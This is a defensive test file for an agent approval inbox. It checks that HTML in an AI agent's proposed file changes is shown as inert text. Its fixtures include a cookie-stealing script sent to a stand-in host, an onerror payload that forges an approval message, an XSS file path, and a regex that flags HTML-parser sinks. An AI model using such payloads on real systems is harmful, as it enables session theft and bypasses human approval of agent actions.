// @vitest-environment happy-dom
/**
 * A proposal is the agent's text, and the agent may have read a hostile web page or email: the
 * approval inbox's inline diff must show markup in a proposal as the characters it is, never run
 * or render it. The diff is computed by the host's real code and drawn by the webview's real code
 * into a real DOM (happy-dom, which parses HTML, so markup that reached a parser would be
 * elements); and no webview script hands text to an HTML parser anywhere.
 */
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import type { Proposal } from '@keel/schemas';
import type { HostToInboxMessage } from '@keel/schemas/src/webviews';
import { inboxDiffKey } from '../../extension/src/approvals/inboxModel';
import { proposalDiff } from '../../extension/src/approvals/proposalDiff';
import { InlineDiffs } from '../../extension/src/approvals/webview/inlineDiff';

const SCRIPT = '<script>fetch("https://evil.example/?k="+document.cookie)</script>';
const IMAGE = "<img src=x onerror=\"acquireVsCodeApi().postMessage({type:'approve',id:'p1'})\">";
const PATH = 'memory/<b onmouseover=alert(1)>acme</b>.md';

const hostile: Proposal = {
  id: 'p1',
  runId: 'r1',
  stepId: 'record',
  runbook: 'notes',
  summary: 'Update acme',
  reasoning: '',
  changes: [{ path: PATH, action: 'modify', baseHash: 'h', content: `# Acme\n${SCRIPT}\n${IMAGE}\n` }],
  status: 'pending',
  protected: false,
  createdAt: '2026-12-04T09:00:00.000Z',
  staleFiles: [],
  decision: null,
};

it('shows HTML and script in a proposed file as text, never as elements', () => {
  const asked: string[] = [];
  const diffs = new InlineDiffs(
    (id) => asked.push(id),
    () => undefined,
  );
  const answer: HostToInboxMessage = {
    type: 'diff',
    key: inboxDiffKey(hostile),
    diff: proposalDiff(hostile, { [PATH]: '# Acme\n<i>old</i>\n' }),
  };
  diffs.view(hostile);
  expect(asked).toEqual(['p1']);
  expect(diffs.receive(answer, hostile)).toBe(true);

  const view = diffs.view(hostile);
  const added = Array.from(view.querySelectorAll('.diff-line.added .diff-text')).map(
    (line) => line.textContent,
  );
  expect(added).toEqual([SCRIPT, IMAGE]);
  expect(view.querySelector('.diff-line.removed')?.textContent).toContain('<i>old</i>');
  expect(view.querySelector('.file-diff-path')?.textContent).toContain(PATH);
  // Only the elements the inbox itself draws: nothing the proposal's text named.
  expect(view.querySelectorAll('script, img, b, i, iframe')).toHaveLength(0);
  for (const element of Array.from(view.querySelectorAll('*'))) {
    expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([]);
  }
});

it('shows a diff that could not be computed with its message as text', () => {
  const diffs = new InlineDiffs(
    () => undefined,
    () => undefined,
  );
  diffs.receive({ type: 'diffError', key: inboxDiffKey(hostile), message: SCRIPT }, hostile);
  const view = diffs.view(hostile);
  expect(view.querySelector('.error')?.textContent).toBe(`The diff could not be shown: ${SCRIPT}`);
  expect(view.querySelectorAll('script')).toHaveLength(0);
});

it('has no webview script that hands text to an HTML parser', async () => {
  const src = join(__dirname, '..', '..', 'extension', 'src');
  const scripts = (await readdir(src, { recursive: true }))
    .filter((path) => /(^|\/)webview\/[^/]+\.ts$/.test(path))
    .map((path) => join(src, path));
  expect(scripts.some((path) => path.endsWith(join('approvals', 'webview', 'inlineDiff.ts')))).toBe(true);
  for (const script of scripts) {
    const code = await readFile(script, 'utf8');
    expect(
      code.match(
        /\b(innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment)\b/g,
      ),
      script,
    ).toBeNull();
  }
});
